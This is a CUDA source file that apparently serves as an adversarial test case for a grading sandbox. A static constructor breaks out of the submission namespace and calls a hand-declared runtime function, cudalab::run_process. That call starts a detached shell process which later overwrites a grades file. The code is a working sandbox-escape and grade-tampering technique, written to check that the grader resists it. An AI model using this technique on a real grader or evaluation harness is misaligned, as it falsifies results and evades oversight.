// Leaves a process behind: its static constructor starts one in a session of its own (out of the
// worker's process group), which waits until the check is over and then rewrites the grades.
// Nothing may outlive the check, and the grades must stay as they were.
// How it gets out (the same in every sandbox--*.cu): it closes the namespace the grader wraps a
// submission in, and declares a function the cudalab executable exports to kernels' objects —
// cudalab::run_process, which starts any program — with the standard types spelled by hand, so
// nothing but that one import appears. Its arguments are laid out as libstdc++ lays them out.
}  // leaves namespace student
namespace std {
template <class T> struct char_traits;
template <class T> class allocator;
inline namespace __cxx11 { template <class C, class T, class A> class basic_string; }
template <class T, class A> class vector;
}  // namespace std
using String = std::basic_string<char, std::char_traits<char>, std::allocator<char>>;
using Strings = std::vector<String, std::allocator<String>>;
namespace cudalab {
struct ProcessResult {  // as runtime/include/cudalab/subprocess.h has it, with room to spare
  bool started, timed_out;
  int exit_code, signal;
  struct { const char* data; unsigned long size; char rest[16]; } output;
  char spare[64];
};
ProcessResult run_process(const Strings& argv, double time_limit_seconds);
}  // namespace cudalab
namespace student {
namespace attack {
struct Text { const char* data; unsigned long size, capacity, pad; };
struct Args { const Text* begin; const Text* end; const Text* end_of_storage; };
inline unsigned long length(const char* s) { unsigned long n = 0; while (s[n]) ++n; return n; }
// Runs `script` with /bin/sh; what it printed, or why it did not start.
inline const char* shell(const char* script) {
  static Text texts[3];
  const char* parts[3] = {"/bin/sh", "-c", script};
  for (int i = 0; i < 3; ++i) texts[i] = {parts[i], length(parts[i]), length(parts[i]), 0};
  static Args args;
  args = {texts, texts + 3, texts + 3};
  const cudalab::ProcessResult r = cudalab::run_process(*reinterpret_cast<const Strings*>(&args), 20);
  return r.output.data;
}
}  // namespace attack

const char* started = attack::shell(
    "setsid sh -c 'sleep 4.0417; echo alice,failed > /tmp/cudalab-attack-grades.csv' >/dev/null 2>&1 </dev/null & "
    "echo left a process behind");

__global__ void add_ten(const float* a, float* out, int n) {
  const int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) out[i] = a[i] + 10.f;
}
